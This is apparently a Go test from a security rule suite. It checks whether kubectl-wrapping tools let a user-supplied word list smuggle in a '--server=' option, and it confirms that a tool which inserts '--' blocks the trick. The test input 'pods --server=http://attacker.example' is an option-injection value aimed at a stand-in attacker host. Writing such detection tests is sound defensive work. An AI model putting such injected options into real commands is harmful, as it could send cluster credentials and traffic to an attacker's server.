package escape_test

import (
	"os"
	"strings"
	"testing"

	"fixtures/omcg0031/wordloop"
)

// OMCG0031 on words copied into the argument list in a loop: with
// "--server=…" among the words of the command line, kubectl takes the
// option through the two flagged tools, and not through the one that
// puts "--" before the words.
func TestOptionInjectionWordLoop(t *testing.T) {
	marker := fakeKubectl(t)
	cs := connect(t, wordloop.Register)
	const attacker = "http://attacker.example"
	for tool, flagged := range map[string]bool{"kubectl_copied": true, "kubectl_trimmed": true, "kubectl_copied_ended": false} {
		os.Remove(marker)
		call(t, cs, tool, map[string]any{"command": "pods --server=" + attacker})
		got, _ := os.ReadFile(marker)
		if escaped := strings.TrimSpace(string(got)) == attacker; escaped != flagged {
			t.Errorf("%s: kubectl read --server= as its option: %v, want %v", tool, escaped, flagged)
		}
	}
}
